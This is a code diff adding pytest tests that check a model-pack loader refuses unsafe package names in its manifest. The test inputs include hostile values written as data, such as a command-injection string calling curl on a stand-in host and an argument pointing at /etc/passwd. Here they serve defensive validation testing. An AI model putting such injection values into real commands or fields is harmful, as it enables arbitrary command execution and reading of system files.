@@ -310,6 +310,29 @@ def test_a_forged_pack_with_fitting_digests_is_refused(saved, tmp_path, change):
         load_pack(rewritten(saved, tmp_path / "a.pack", change))
 
 
+@pytest.mark.parametrize(
+    "package",
+    ["x; curl evil.example", "-r /etc/passwd", "a" * 200, 3, None, ["x"], "", "git+https:x"],
+)
+def test_a_package_to_install_is_a_name_or_is_not_named(saved, tmp_path, package):
+    def change(manifest, _members):
+        manifest["predictor"] = {"name": "theirs", "parameters": {}}
+        manifest["packages"] = {"predictor": package}
+
+    with pytest.raises(PackError, match="did you mean|known: hybrid") as caught:
+        load_pack(rewritten(saved, tmp_path / "a.pack", change))
+    assert "install" not in str(caught.value)
+
+
+def test_packages_that_are_no_mapping_are_refused(saved, tmp_path):
+    def change(manifest, _members):
+        manifest["predictor"] = {"name": "theirs", "parameters": {}}
+        manifest["packages"] = ["acme"]
+
+    with pytest.raises(PackError):
+        load_pack(rewritten(saved, tmp_path / "a.pack", change))
+
+
 def test_forged_numbers_in_any_file_are_refused_or_usable(with_trees, tmp_path):
     save_pack(with_trees, tmp_path / "a.pack")
     generator = np.random.default_rng(0)
